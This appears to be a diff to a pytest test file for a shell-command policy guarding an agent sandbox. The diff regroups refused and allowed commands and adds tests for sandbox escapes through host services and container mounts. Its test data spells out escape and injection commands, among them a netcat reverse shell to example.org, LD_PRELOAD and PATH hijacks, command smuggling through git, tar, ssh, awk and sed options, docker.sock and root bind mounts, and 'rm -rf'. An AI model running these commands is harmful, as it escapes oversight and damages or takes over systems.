@@ -14,7 +14,6 @@ REFUSED = [
     ["env", "-i", "A=1", "-u", "B", "sudo", "ls"],
     ["env", "-S", "sudo ls"],
     ["env", "--split-string=sudo ls"],
-    ["env", "LD_PRELOAD=./x.so", "ls"],
     ["nice", "-n", "5", "sudo", "ls"],
     ["timeout", "-k", "1", "5", "sudo", "ls"],
     ["nohup", "setsid", "sudo", "ls"],
@@ -56,10 +55,6 @@ REFUSED = [
     ["env", "-a", "ls", "sudo", "ls"],
     ["env", "--unse", "A", "sudo"],
     ["env", "-C", "/", "rm", "-rf", "usr"],
-    ["env", "PATH=.:/usr/bin", "ls"],
-    ["env", "GIT_SSH_COMMAND=sudo ls", "git", "fetch"],
-    ["env", "NODE_OPTIONS=--require ./x", "node"],
-    ["env", "HOME=.", "git", "status"],
     ["nice", "-10", "sudo"],
     ["nice", "--adj", "5", "sudo"],
     ["timeout", "--sig", "KILL", "5", "sudo"],
@@ -90,40 +85,7 @@ REFUSED = [
     ["find", "/usr/bin", "-delete"],
     ["find", "..", "-type", "f", "-execdir", "rm", "{}", ";"],
     # options of ordinary programs that name another one
-    ["git", "-c", "core.pager=sudo ls", "log"],
-    ["git", "-c", "alias.x=!sudo ls", "x"],
-    ["git", "-c", "core.hooksPath=x", "commit"],
-    ["git", "-C", "x", "-c", "core.sshCommand=sudo ls", "fetch"],
-    ["git", "--exec-path=./evil", "status"],
-    ["git", "config", "--global", "alias.x", "!sudo ls"],
-    ["git", "clone", "-c", "core.fsmonitor=sudo ls", "x"],
-    ["git", "clone", "ext::sudo ls", "x"],
-    ["git", "clone", "-u", "sudo ls", "x"],
-    ["git", "fetch", "--upload-pack=sudo ls"],
-    ["git", "grep", "-Osudo ls", "x"],
-    ["git", "bisect", "run", "sudo", "ls"],
-    ["git", "submodule", "foreach", "--recursive", "sudo ls"],
-    ["git", "rebase", "-x", "sudo ls", "HEAD~1"],
-    ["git", "filter-branch", "--tree-filter", "sudo ls"],
-    ["tar", "xf", "a", "--to-command=sudo ls"],
-    ["tar", "xf", "a", "--to-c", "sudo ls"],
-    ["tar", "cf", "a", "--checkpoint-action=exec=sudo ls", "x"],
-    ["tar", "-cI", "sudo ls", "-f", "a", "x"],
-    ["tar", "cIf", "sudo ls", "a", "x"],
-    ["rsync", "-ave", "sudo ls", "x", "y:z"],
     ["rsync", "-a", "--delete", "x/", "/"],
-    ["ssh", "-o", "ProxyCommand=sudo ls", "x"],
-    ["ssh", "-oproxycommand=sudo ls", "x"],
-    ["awk", 'BEGIN{system("sudo ls")}'],
-    ["gawk", 'BEGIN{"sudo ls"|getline}'],
-    ["awk", 'BEGIN{print "x" | "sudo sh"}'],
-    ["sed", "1e sudo ls", "x"],
-    ["sed", "-n", "s/a/sudo ls/e", "x"],
-    ["vim", "-c", "!sudo ls"],
-    ["make", "SHELL=sudo"],
-    ["make", "--eval=$(shell sudo ls)"],
-    ["nc", "-e", "/bin/sh", "example.org", "1"],
-    ["socat", "EXEC:sudo ls", "-"],
     ["docker", "run", "--privileged", "x"],
     ["docker", "run", "-v", "/:/host", "x"],
     ["systemctl", "poweroff"],
@@ -203,7 +165,6 @@ SCRIPTS = [
     "cat <<X\nX\nsudo ls",
     "ls # nothing\nsudo ls",
     "ls 'unclosed",
-    "LD_PRELOAD=./x ls",
     "sud\\\no ls",
     "/bin/s?do ls",
     # where a line ends, to whom
@@ -248,11 +209,6 @@ SCRIPTS = [
     "exec -a x sudo ls",
     "A=1 >b sudo ls",
     "A=(sudo ls); ${A[@]}",
-    "PATH=. ls",
-    "PATH=$PWD:$PATH ls",
-    "export PATH=bin:$PATH; ls",
-    "export LD_PRELOAD=./x; ls",
-    "IFS=,; ls",
     "PS4='`sudo ls`'; set -x",
     "hash -p /usr/bin/sudo ls; ls",
     "mapfile -C 'sudo ls' x",
@@ -268,6 +224,108 @@ SCRIPTS = [
     "rm -rf $(echo /)",
     "rm $X /",
     "rm {-rf,/}",
+]
+OUTSIDE = [
+    ["systemctl", "--user", "start", "x"],
+    ["systemctl", "--user", "link", "/tmp/x.service"],
+    ["systemd-run", "--user", "cat", "x"],
+    ["busctl", "--user", "call", "org.freedesktop.systemd1", "/", "x", "StartTransientUnit"],
+    ["dbus-send", "--session", "--dest=x", "/", "x"],
+    ["gdbus", "call", "--session"],
+    ["flatpak-spawn", "--host", "cat", "x"],
+    ["toolbox", "run", "cat", "x"],
+    ["distrobox-host-exec", "cat", "x"],
+    ["emacsclient", "-e", '(shell-command "x")'],
+    ["kitty", "@", "launch", "x"],
+    ["wezterm", "cli", "spawn", "x"],
+    ["xdotool", "type", "x"],
+    ["tmux", "-S", "x", "new-window", "cat x"],
+    ["screen", "-X", "stuff", "x"],
+    ["at", "now"],
+    ["crontab", "x"],
+    ["code", "--command", "x"],
+    ["snap", "run", "x"],
+    ["timeout", "5", "busctl", "x"],
+    ["sh", "-c", "true; dbus-send x"],
+    ["find", ".", "-exec", "tmux", "new", "{}", ";"],
+]
+CONTAINERS = [
+    ["docker", "run", "--mount", "type=bind,source=/home/u/.agentsup,target=/h", "alpine"],
+    ["docker", "run", "--mount=type=bind,src=/,dst=/h", "alpine"],
+    ["docker", "run", "--mount", "source=/home,target=/h,type=bind", "alpine"],
+    ["docker", "run", "-v", "/home/u:/x", "alpine"],
+    ["docker", "run", "-v/home/u:/x", "alpine"],
+    ["docker", "run", "-itv", "/home/u:/x", "alpine"],
+    ["docker", "run", "-itv/home/u:/x", "alpine"],
+    ["docker", "run", "--volume=/home/u/.agentsup:/h", "alpine"],
+    ["docker", "run", "-v", "../..:/x", "alpine"],
+    ["docker", "run", "-v", "/./:/x", "alpine"],
+    ["docker", "run", "-v", "./link:/x", "alpine"],
+    ["docker", "run", "-v", "~:/x", "alpine"],
+    ["docker", "run", "-v", "/srv/site:/site", "nginx"],
+    ["docker", "run", "-v", "/var/run/docker.sock:/s", "alpine"],
+    ["docker", "run", "--mount", "type=volume,source=a,target=/x,volume-opt=device=/", "alpine"],
+    ["docker", "volume", "create", "-o", "type=none", "-o", "device=/", "x"],
+    ["docker", "volume", "create", "--opt=device=/", "x"],
+    ["docker", "compose", "-f", "x.yaml", "up"],
+    ["docker-compose", "up"],
+    ["podman", "run", "--volumes-from", "x", "alpine"],
+    ["nerdctl", "run", "--device=/dev/sda", "alpine"],
+    ["docker", "run", "--pid=host", "alpine"],
+    ["docker", "run", "--pid", "host", "alpine"],
+    ["sh", "-c", 'docker run -v "$PWD":/x alpine'],
+]
+LEFT_TO_THE_FENCE = [
+    ["env", "LD_PRELOAD=./x.so", "ls"],
+    ["env", "PATH=.:/usr/bin", "ls"],
+    ["env", "GIT_SSH_COMMAND=sudo ls", "git", "fetch"],
+    ["env", "NODE_OPTIONS=--require ./x", "node"],
+    ["env", "HOME=.", "git", "status"],
+    ["git", "-c", "core.pager=sudo ls", "log"],
+    ["git", "-c", "alias.x=!sudo ls", "x"],
+    ["git", "-c", "core.hooksPath=x", "commit"],
+    ["git", "-C", "x", "-c", "core.sshCommand=sudo ls", "fetch"],
+    ["git", "--exec-path=./evil", "status"],
+    ["git", "config", "--global", "alias.x", "!sudo ls"],
+    ["git", "clone", "-c", "core.fsmonitor=sudo ls", "x"],
+    ["git", "clone", "ext::sudo ls", "x"],
+    ["git", "clone", "-u", "sudo ls", "x"],
+    ["git", "fetch", "--upload-pack=sudo ls"],
+    ["git", "grep", "-Osudo ls", "x"],
+    ["git", "bisect", "run", "sudo", "ls"],
+    ["git", "submodule", "foreach", "--recursive", "sudo ls"],
+    ["git", "rebase", "-x", "sudo ls", "HEAD~1"],
+    ["git", "filter-branch", "--tree-filter", "sudo ls"],
+    ["tar", "xf", "a", "--to-command=sudo ls"],
+    ["tar", "xf", "a", "--to-c", "sudo ls"],
+    ["tar", "cf", "a", "--checkpoint-action=exec=sudo ls", "x"],
+    ["tar", "-cI", "sudo ls", "-f", "a", "x"],
+    ["tar", "cIf", "sudo ls", "a", "x"],
+    ["rsync", "-ave", "sudo ls", "x", "y:z"],
+    ["ssh", "-o", "ProxyCommand=sudo ls", "x"],
+    ["ssh", "-oproxycommand=sudo ls", "x"],
+    ["awk", 'BEGIN{system("sudo ls")}'],
+    ["gawk", 'BEGIN{"sudo ls"|getline}'],
+    ["awk", 'BEGIN{print "x" | "sudo sh"}'],
+    ["sed", "1e sudo ls", "x"],
+    ["sed", "-n", "s/a/sudo ls/e", "x"],
+    ["vim", "-c", "!sudo ls"],
+    ["make", "SHELL=sudo"],
+    ["make", "--eval=$(shell sudo ls)"],
+    ["nc", "-e", "/bin/sh", "example.org", "1"],
+    ["socat", "EXEC:sudo ls", "-"],
+    ["env", "BASH_FUNC_ls%%=() { :; }", "bash", "-c", "ls"],
+    ["time", "-o", "/etc/x", "true"],
+]
+"""Code in options, settings and variables: any script file says the same unread, so that refusing it
+would only look like protection."""
+SCRIPTS_LEFT = [
+    "LD_PRELOAD=./x ls",
+    "PATH=. ls",
+    "PATH=$PWD:$PATH ls",
+    "export PATH=bin:$PATH; ls",
+    "export LD_PRELOAD=./x; ls",
+    "IFS=,; ls",
 ]
 ALLOWED = [
     ["ls", "-la"],
@@ -295,7 +353,20 @@ ALLOWED = [
     ["rsync", "-av", "--delete", "-e", "ssh -p 22", "out/", "host:site/"],
     ["awk", "-F|", '{print $1 "|" $2; printf "%s|%s", $3, $4}', "x"],
     ["sed", "-i", "s/some/more/g; /else/d", "x"],
-    ["docker", "run", "--rm", "-v", "/srv/site:/site", "nginx"],
+    [
+        "docker",
+        "run",
+        "--rm",
+        "-it",
+        "-v",
+        "site:/site",
+        "--mount",
+        "type=tmpfs,target=/t",
+        "nginx",
+    ],
+    ["docker", "build", "-t", "x", "."],
+    ["docker", "ps"],
+    ["code", "x.py"],
     ["bash", "-o", "pipefail", "-c", "make | tee log"],
     ["rm", "-rf", "/tmp/build", "dist/*"],
     ["cp", "-r", "/usr/share/doc/x", "."],
@@ -324,6 +395,26 @@ ALLOWED_SCRIPTS = [
 @pytest.mark.parametrize("argv", REFUSED, ids=" ".join)
 def test_what_is_out_of_the_question_is_refused_however_it_is_written(argv: list[str]) -> None:
     assert shell_policy.problem(argv) is not None
+
+
+@pytest.mark.parametrize("argv", OUTSIDE, ids=" ".join)
+def test_no_command_asks_a_program_outside_the_fence(argv: list[str]) -> None:
+    assert "outside the fence" in str(shell_policy.problem(argv))
+
+
+@pytest.mark.parametrize("argv", CONTAINERS, ids=" ".join)
+def test_a_container_gets_nothing_of_the_machine(argv: list[str]) -> None:
+    assert shell_policy.problem(argv) is not None
+
+
+@pytest.mark.parametrize("argv", LEFT_TO_THE_FENCE, ids=" ".join)
+def test_what_any_script_file_passes_is_left_to_the_fence(argv: list[str]) -> None:
+    assert shell_policy.problem(argv) is None
+
+
+@pytest.mark.parametrize("script", SCRIPTS_LEFT)
+def test_variables_are_left_to_the_fence(script: str) -> None:
+    assert shell_policy.script_problem(script) is None
 
 
 @pytest.mark.parametrize("script", SCRIPTS)
